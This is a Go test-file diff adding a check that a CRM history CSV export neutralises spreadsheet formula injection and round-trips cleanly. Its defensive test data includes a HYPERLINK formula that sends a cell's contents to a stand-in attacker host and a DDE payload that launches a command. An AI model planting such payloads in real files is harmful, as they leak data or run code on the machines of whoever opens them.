@@ -2,6 +2,8 @@ package coach_test
 
 import (
 	"bytes"
+	"encoding/csv"
+	"fmt"
 	"strings"
 	"testing"
 	"time"
@@ -206,6 +208,46 @@ func TestExportNumber(t *testing.T) {
 		n, ok := coach.ExportNumber(tt.id)
 		if n != tt.n || ok != tt.ok {
 			t.Errorf("ExportNumber(%q) = %d, %v; want %d, %v", tt.id, n, ok, tt.n, tt.ok)
+		}
+	}
+}
+
+// A cell a spreadsheet would run as a formula is exported as text (a leading
+// apostrophe) and imported back as the text the user typed.
+func TestHistoryCSVFormulas(t *testing.T) {
+	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Open CRM")`, "=cmd|' /C calc'!A0", "+1 555 0100", "-5 seats",
+		"@SUM(A1:A9)", "'=already quoted", "''+twice", "'plain apostrophe", "Acme = Globex", "-"}
+	var rows []coach.HistoryRow
+	for i, n := range names {
+		id := fmt.Sprintf("=X-%d", i)
+		rows = append(rows, coach.HistoryRow{DealID: id, Name: n, Owner: "U1", Amount: coach.Money{Cents: 500, Currency: "USD"}, HasAmount: true,
+			Stage: coach.Contact, At: time.Date(2026, 1, 5, 9, 0, 0, 0, time.UTC)},
+			coach.HistoryRow{DealID: id, Name: n, Owner: "U1", Amount: coach.Money{Cents: 500, Currency: "USD"}, HasAmount: true,
+				Stage: coach.Lost, At: time.Date(2026, 1, 6, 9, 0, 0, 0, time.UTC), Reason: coach.ReasonOther, Text: "went quiet"})
+	}
+	file := coach.HistoryCSV(rows)
+	recs, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rec := range recs[1:] {
+		for i, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("column %s exported as %q: a spreadsheet runs it", coach.HistoryColumns[i], cell)
+			}
+		}
+		if rec[3] != "5" {
+			t.Errorf("amount exported as %q, want 5", rec[3])
+		}
+	}
+	back, bad := coach.ParseHistoryCSV(bytes.NewReader(file))
+	if len(bad) > 0 {
+		t.Fatalf("%s\nerrors: %v", file, bad)
+	}
+	for i := range rows {
+		back[i].Line = 0
+		if back[i] != rows[i] {
+			t.Errorf("row %d:\n got %+v\nwant %+v", i, back[i], rows[i])
 		}
 	}
 }
